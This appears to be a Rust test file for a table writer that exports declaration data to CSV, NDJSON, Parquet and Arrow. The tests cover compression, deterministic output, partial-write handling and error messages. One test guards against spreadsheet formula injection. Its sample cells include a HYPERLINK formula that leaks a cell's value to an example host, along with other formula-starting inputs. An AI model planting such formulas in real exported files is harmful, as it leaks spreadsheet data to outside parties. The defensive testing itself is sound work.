//! Writing of tables.

use std::io::Read;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use arrow_array::builder::{ListBuilder, StringBuilder};
use arrow_array::cast::AsArray;
use arrow_array::types::Int32Type;
use arrow_array::{ArrayRef, DictionaryArray, Float64Array, Int64Array, RecordBatch, StringArray};
use qingfeng::write::{Output, TableWriter};

fn table() -> RecordBatch {
    let mut reasons = ListBuilder::new(StringBuilder::new());
    reasons.append_value([Some("new exporter"), Some("brand; unknown")]);
    reasons.append_value([None::<&str>; 0]);
    reasons.append_null();
    let columns: [(&str, ArrayRef); 4] = [
        ("declaration_id", Arc::new(StringArray::from(vec!["D1", "D\"2\"", "D,3"]))),
        ("score", Arc::new(Int64Array::from(vec![Some(70), None, Some(0)]))),
        ("share", Arc::new(Float64Array::from(vec![0.1, 1.0, 1e21]))),
        ("reasons", Arc::new(reasons.finish())),
    ];
    RecordBatch::try_from_iter_with_nullable(columns.map(|(name, column)| (name, column, true)))
        .expect("columns have one length")
}

fn write(path: &Path, batches: &[RecordBatch]) -> Vec<u8> {
    let mut writer = TableWriter::create(&Output::Path(path.to_owned()), table().schema())
        .expect("the file can be created");
    batches.iter().for_each(|batch| writer.write(batch).expect("the batch can be written"));
    writer.finish().expect("the file can be finished");
    std::fs::read(path).expect("the file is there")
}

fn text(bytes: &[u8]) -> String {
    let mut text = String::new();
    let mut decoded: Box<dyn Read> = match bytes {
        [0x1F, 0x8B, ..] => Box::new(flate2::read::GzDecoder::new(bytes)),
        [0x28, 0xB5, ..] => Box::new(zstd::Decoder::new(bytes).expect("zstd")),
        _ => Box::new(bytes),
    };
    decoded.read_to_string(&mut text).expect("text");
    text
}

fn names(directory: &Path) -> Vec<String> {
    let entries = std::fs::read_dir(directory).expect("a directory");
    let mut names: Vec<String> =
        entries.map(|entry| entry.expect("an entry").file_name().to_string_lossy().into_owned()).collect();
    names.sort();
    names
}

#[test]
fn text_formats_say_what_the_table_says() {
    let directory = tempfile::tempdir().unwrap();
    let csv = "declaration_id,score,share,reasons\nD1,70,0.1,\"new exporter;brand, unknown\"\n\"D\"\"2\"\"\",,1.0,\n\
               \"D,3\",0,1e+21,\n";
    let json = "{\"declaration_id\":\"D1\",\"score\":70,\"share\":0.1,\"reasons\":[\"new exporter\",\"brand; unknown\"]}\n\
                {\"declaration_id\":\"D\\\"2\\\"\",\"score\":null,\"share\":1.0,\"reasons\":[]}\n\
                {\"declaration_id\":\"D,3\",\"score\":0,\"share\":1e+21,\"reasons\":null}\n";
    for (name, expected) in [("t.csv", csv), ("t.ndjson", json)] {
        for compression in ["", ".gz", ".zst"] {
            let path = directory.path().join(format!("{name}{compression}"));
            assert_eq!(text(&write(&path, &[table()])), expected, "{name}{compression}");
        }
    }
}

#[test]
fn equal_tables_give_equal_bytes_and_nothing_is_left_beside_them() {
    let directory = tempfile::tempdir().unwrap();
    let files = ["t.arrow", "t.csv", "t.csv.gz", "t.csv.zst", "t.ndjson", "t.parquet"];
    for name in files {
        let path = directory.path().join(name);
        let once = write(&path, &[table(), table()]);
        assert_eq!(write(&path, &[table(), table()]), once, "{name}");
    }
    assert_eq!(names(directory.path()), files);
}

/// Each batch of results comes with a dictionary of its own.
#[test]
fn batches_with_other_dictionaries_are_one_table_in_each_format() {
    let batch = |channels: [&str; 2]| {
        let channels: DictionaryArray<Int32Type> = channels.into_iter().collect();
        RecordBatch::try_from_iter([("channel", Arc::new(channels) as ArrayRef)]).expect("a batch")
    };
    let batches = [batch(["green", "red"]), batch(["yellow", "green"])];
    let directory = tempfile::tempdir().unwrap();
    for name in ["t.csv", "t.ndjson", "t.parquet", "t.arrow"] {
        let output = Output::Path(directory.path().join(name));
        let mut writer = TableWriter::create(&output, batches[0].schema()).unwrap();
        batches
            .iter()
            .for_each(|batch| writer.write(batch).unwrap_or_else(|error| panic!("{name}: {error}")));
        writer.finish().unwrap();
    }
    let file = std::fs::File::open(directory.path().join("t.arrow")).unwrap();
    let texts: Vec<String> = arrow_ipc::reader::FileReader::try_new(file, None)
        .unwrap()
        .flat_map(|batch| {
            let column = Arc::clone(batch.unwrap().column(0));
            column.as_string::<i32>().iter().map(|text| text.unwrap().to_owned()).collect::<Vec<_>>()
        })
        .collect();
    assert_eq!(texts, ["green", "red", "yellow", "green"]);
}

#[test]
fn a_table_without_lines_is_a_table() {
    let directory = tempfile::tempdir().unwrap();
    assert_eq!(
        text(&write(&directory.path().join("t.csv"), &[])),
        "declaration_id,score,share,reasons\n",
        "a header"
    );
    assert_eq!(text(&write(&directory.path().join("t.ndjson"), &[])), "");
    assert!(write(&directory.path().join("t.parquet"), &[]).starts_with(b"PAR1"));
}

#[test]
fn a_run_that_fails_leaves_what_it_wrote_and_the_older_file() {
    let directory = tempfile::tempdir().unwrap();
    for name in ["t.csv", "t.csv.gz", "t.csv.zst", "t.ndjson", "t.parquet", "t.arrow"] {
        let path = directory.path().join(name);
        std::fs::write(&path, "older").unwrap();
        let mut writer = TableWriter::create(&Output::Path(path.clone()), table().schema()).unwrap();
        writer.write(&table()).unwrap();
        drop(writer);
        assert_eq!(std::fs::read(&path).unwrap(), b"older", "{name}");
        let partial = std::fs::read(directory.path().join(format!("{name}.partial"))).unwrap();
        let whole = write(&directory.path().join(format!("whole-{name}")), &[table()]);
        assert_eq!(partial, whole, "{name}");
    }
}

#[test]
fn what_cannot_be_written_is_told() {
    let create = |path: &str| {
        let output = Output::Path(PathBuf::from(path));
        TableWriter::create(&output, table().schema()).map(drop).unwrap_err().to_string()
    };
    for path in ["t.txt", "t", "t.parquet.gz", "t.arrow.zst", ".csv.xlsx"] {
        assert_eq!(
            create(path),
            format!(
                "{path}: its extension names no format; use .csv, .csv.gz, .csv.zst, .ndjson, .ndjson.gz, \
                 .ndjson.zst, .parquet or .arrow"
            )
        );
    }
    assert!(create("/no/such/directory/t.csv").starts_with("/no/such/directory/t.csv: cannot be written: "));
}

/// Texts that spreadsheets run, and some that they do not.
const CELLS: [&str; 20] = [
    "=1+1",
    "=HYPERLINK(\"http://example.com/\"&A1,\"x\")",
    "+SUM(A1)",
    "-cmd",
    "@SUM(A1)",
    "\t=1",
    "\rx",
    "  =1",
    "\u{feff}=1",
    "＝1+1",
    "'=1",
    "''=1",
    "=1,\"2\"",
    "-5",
    "+3.5e2",
    "'quoted'",
    "'E0009",
    "E-5",
    "plain",
    "中=1",
];

#[test]
fn no_cell_of_csv_begins_as_a_formula_does_and_readers_give_it_back() {
    let directory = tempfile::tempdir().unwrap();
    let path = directory.path().join("t.csv");
    let column: ArrayRef = Arc::new(StringArray::from(CELLS.to_vec()));
    let same = |text: &str| Arc::new(StringArray::from(vec![text; CELLS.len()])) as ArrayRef;
    let columns = [
        ("declaration_id", Arc::clone(&column)),
        ("goods", column),
        ("destination", same("KE")),
        ("mode", same("0110")),
        ("hs", same("8711")),
    ];
    let batch = RecordBatch::try_from_iter(columns).unwrap();
    let mut writer = TableWriter::create(&Output::Path(path.clone()), batch.schema()).unwrap();
    writer.write(&batch).unwrap();
    writer.finish().unwrap();

    let written = std::fs::read_to_string(&path).unwrap();
    for line in ["'=1+1,'=1+1,", "\"'=1,\"\"2\"\"\",", "\n-5,-5,", "\n+3.5e2,", "\n''=1,''=1,", "\n'E0009,"] {
        assert!(written.contains(line), "{line:?} in\n{written}");
    }
    let cells = written.split(['\n', ',']).map(|cell| cell.trim_start_matches('"').trim_start());
    for cell in cells.filter(|cell| cell.starts_with(['=', '+', '-', '@', '＝'])) {
        assert!(cell.parse::<f64>().is_ok(), "{cell}");
    }

    let schema = Arc::new(qingfeng::rules::Schema::export());
    let goods = schema.field("goods").unwrap();
    let inputs = vec![qingfeng::read::Input::Path(path.clone())];
    let mut reader = qingfeng::read::Reader::new(Arc::clone(&schema), inputs, Default::default()).unwrap();
    let mut read = Vec::new();
    for chunk in &mut reader {
        let chunk = chunk.unwrap();
        let texts = chunk.lines.column(goods).as_any().downcast_ref::<StringArray>().unwrap().clone();
        read.extend(texts.iter().map(|text| text.unwrap().to_owned()));
    }
    // Readers take blanks away, here as everywhere.
    assert_eq!(read, CELLS.map(str::trim));
}

qingfeng::columns! {
    /// A text of each row.
    Texts = "a table of texts";
    text: Text Needed "The text.";
}

#[test]
fn tables_of_ours_give_every_text_back() {
    use proptest::prelude::*;
    let directory = tempfile::tempdir().unwrap();
    let path = directory.path().join("t.csv");
    let cell = proptest::string::string_regex("['=+@＝ \t\r\n\u{feff}-]{0,4}[a1=,\"-]{1,3}").unwrap();
    let mut runner = proptest::test_runner::TestRunner::deterministic();
    let texts = proptest::collection::vec(cell, 1..60);
    let run = |texts: Vec<String>| {
        let mut rows = qingfeng::tables::RowWriter::new(&Texts::TABLE);
        texts.iter().for_each(|text| rows.text(Texts::COLUMNS.text, text.as_str()).end());
        let batch = rows.finish().unwrap();
        let mut writer = TableWriter::create(&Output::Path(path.clone()), batch.schema()).unwrap();
        writer.write(&batch).unwrap();
        writer.finish().unwrap();
        let mut reader =
            qingfeng::tables::RowReader::open(&qingfeng::read::Input::Path(path.clone()), &Texts::TABLE)
                .unwrap();
        for text in &texts {
            let row = reader.read().unwrap().unwrap();
            prop_assert_eq!(&*row.required_text(Texts::COLUMNS.text).unwrap(), text);
        }
        Ok(())
    };
    runner.run(&texts, run).unwrap();
}
